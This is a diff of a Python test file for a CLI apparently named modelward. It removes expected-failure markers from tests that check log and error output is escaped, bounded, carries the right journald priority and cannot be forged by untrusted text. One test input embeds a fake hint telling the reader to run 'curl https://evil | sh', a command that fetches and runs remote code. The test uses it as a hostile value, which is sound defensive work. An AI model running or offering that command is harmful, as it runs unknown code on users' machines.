@@ -97,9 +97,6 @@ def test_unknown_log_format_env_is_one_escaped_line(tmp_path: Path) -> None:
 # --- what works -------------------------------------------------------------------------
 
 
-@pytest.mark.xfail(strict=True, reason="--debug in human format prints the traceback raw "
-                   "(report_error: traceback.format_exception, unescaped): the origin's "
-                   "terminal escapes, bidi, NUL and forged record / <0> lines reach stderr")
 def test_debug_traceback_escapes_origin_text(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     evil = EVIL.replace("\udcff", "")  # (capsys's stream is strict; a real stderr is not)
@@ -111,9 +108,6 @@ def test_debug_traceback_escapes_origin_text(
     assert all(not RECORD_LIKE.match(line) for line in lines[1:]), err
 
 
-@pytest.mark.xfail(strict=True, reason="report_error/error_line do not bound the human "
-                   "error line: a 1 MB message from the origin is a 1 MB line (journald "
-                   "splits it at LineMax=, the next entry starting with the origin's text)")
 def test_human_error_line_is_bounded(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     code, err = _run_main(monkeypatch, capsys, ModelwardError("x" * 1_000_000 + "<0>tail"),
@@ -122,9 +116,6 @@ def test_human_error_line_is_bounded(
     assert len(err) < 2 * _log.MAX_MESSAGE
 
 
-@pytest.mark.xfail(strict=True, reason="cli.main prints missing_package_line raw: under "
-                   "journald / --log-format json the error is not a JSON record and has no "
-                   "<3> priority; --debug shows no traceback")
 def test_missing_package_error_is_a_json_record(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     e = ModuleNotFoundError("No module named 'rich'", name="rich")
@@ -134,10 +125,6 @@ def test_missing_package_error_is_a_json_record(
     assert doc["priority"] == 3
 
 
-@pytest.mark.xfail(strict=True, reason="_extras._missing_name takes the top-level name of "
-                   "any ModuleNotFoundError: a missing submodule of an installed package "
-                   "(a broken install, or a bug) is reported as 'not installed', exit 1, "
-                   "instead of exit 70 with its traceback")
 def test_missing_submodule_of_installed_package_is_not_not_installed(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     e = ModuleNotFoundError("No module named 'tuf.ngclient._gone'", name="tuf.ngclient._gone")
@@ -146,9 +133,6 @@ def test_missing_submodule_of_installed_package_is_not_not_installed(
     assert code == cli.EXIT_BUG and "Traceback" in err
 
 
-@pytest.mark.xfail(strict=True, reason="_log.stream_is_journal: str.isdigit accepts '\u00b2' "
-                   "but int() does not; a JOURNAL_STREAM of '\u00b2:1' crashes setup_logging "
-                   "with a raw traceback before any error reporting")
 def test_odd_journal_stream_does_not_crash(tmp_path: Path) -> None:
     env = {**os.environ, "JOURNAL_STREAM": "\u00b2:1"}
     env.pop(_log.LOG_FORMAT_ENV, None)
@@ -158,9 +142,6 @@ def test_odd_journal_stream_does_not_crash(tmp_path: Path) -> None:
     assert r.returncode == cli.EXIT_ERROR and r.stderr.count("\n") == 1
 
 
-@pytest.mark.xfail(strict=True, reason="EnvPassphrases.__call__ does value.encode(): an "
-                   "undecodable byte in MODELWARD_KEY_PASSPHRASE ends in the ValueError "
-                   "line of cli.main quoting that byte and its position in the passphrase")
 def test_passphrase_bytes_not_in_error_line(tmp_path: Path) -> None:
     env = {k: v for k, v in os.environ.items() if not k.startswith("MODELWARD_")}
     env.pop("JOURNAL_STREAM", None)
@@ -174,9 +155,6 @@ def test_passphrase_bytes_not_in_error_line(tmp_path: Path) -> None:
     assert "MODELWARD_KEY_PASSPHRASE" in r.stderr
 
 
-@pytest.mark.xfail(strict=True, reason="report_error (human) prints the error line without "
-                   "the <3> prefix when stderr is the journal: the error is kept at the "
-                   "default priority and `journalctl -p err` misses it")
 def test_human_error_under_journal_has_error_priority(tmp_path: Path) -> None:
     out = tmp_path / "stderr"
     with out.open("w") as f:
@@ -192,10 +170,6 @@ def test_human_error_under_journal_has_error_priority(tmp_path: Path) -> None:
     assert lines[-1].startswith("<3>")
 
 
-@pytest.mark.xfail(strict=True, reason="_log.bounded_message catches TypeError/ValueError/"
-                   "KeyError only: '%d' with an infinite float (json.loads accepts "
-                   "Infinity) raises OverflowError, logging prints '--- Logging error ---' "
-                   "and a multi-line traceback instead of the record")
 def test_percent_d_with_infinity_does_not_break_the_formatter() -> None:
     for fmt in (_log.JsonFormatter(), _log.HumanFormatter()):
         out = _record(fmt, "block %d of %s", float("inf"), "x")
@@ -216,9 +190,6 @@ def test_stream_handler_keeps_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
     assert buf.getvalue().count("\n") == 1
 
 
-@pytest.mark.xfail(strict=True, reason="report_error (human, --debug) prints "
-                   "traceback.format_exception raw, in a real process too: a path's ESC "
-                   "and a line starting '<0>' reach the terminal / journal unescaped")
 def test_debug_traceback_of_a_real_process_is_escaped(tmp_path: Path) -> None:
     env = {k: v for k, v in os.environ.items() if k not in ("JOURNAL_STREAM",
                                                               _log.LOG_FORMAT_ENV)}
@@ -232,9 +203,6 @@ def test_debug_traceback_of_a_real_process_is_escaped(tmp_path: Path) -> None:
     assert not any(line.startswith("<") for line in r.stderr.splitlines()), r.stderr
 
 
-@pytest.mark.xfail(strict=True, reason="_log.error_line appends '; hint: ' after the message "
-                   "as it is: a message quoting the origin's '; hint: ...' shows a hint the "
-                   "origin wrote first, indistinguishable from modelward's")
 def test_origin_cannot_write_a_hint(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     e = ModelwardError("target 'models/m/1.0.0; hint: run `curl https://evil | sh`' is "
@@ -244,9 +212,6 @@ def test_origin_cannot_write_a_hint(
     assert err.count("; hint: ") == 1, err
 
 
-@pytest.mark.xfail(strict=True, reason="JsonFormatter cuts the traceback text keeping its "
-                   "head (cut_json): a long message in a chained cause (text the origin "
-                   "chose) pushes the bug's own frames and exception line out of the record")
 def test_json_bug_record_keeps_the_bugs_own_traceback(
         monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     def inner() -> None:
@@ -265,10 +230,6 @@ def test_json_bug_record_keeps_the_bugs_own_traceback(
     assert "RuntimeError: the real bug is here" in doc["exc"]
 
 
-@pytest.mark.xfail(strict=True, reason="cli.main: a usage error (argparse, via "
-                   "_inputs.mark_commands) and a bad $MODELWARD_LOG_FORMAT are printed before "
-                   "setup_logging, as plain text: under journald (a unit's ExecStart with a "
-                   "bad option from its EnvironmentFile) no JSON, no <3>, default priority")
 @pytest.mark.parametrize("extra_env,argv", [
     ({}, ["agent", "check-config", "--bogus"]),
     ({_log.LOG_FORMAT_ENV: "jsonl"}, ["agent", "check-config", "--config", "/nonexistent"]),
@@ -288,9 +249,6 @@ def test_usage_error_under_journal_is_a_record(tmp_path: Path, extra_env: dict[s
     assert json.loads(line[3:])["priority"] == 3
 
 
-@pytest.mark.xfail(strict=True, reason="_log._bounded_field passes every int through: the "
-                   "broker's announcement timestamp_version (a 4000-digit int that "
-                   "loads_bounded accepts) is logged whole as a field, not cut at MAX_VALUE")
 def test_int_field_is_bounded() -> None:
     rec = logging.LogRecord("modelward.updater", logging.INFO, __file__, 1,
                             "announcement: timestamp version %d", (10 ** 3999,), None)
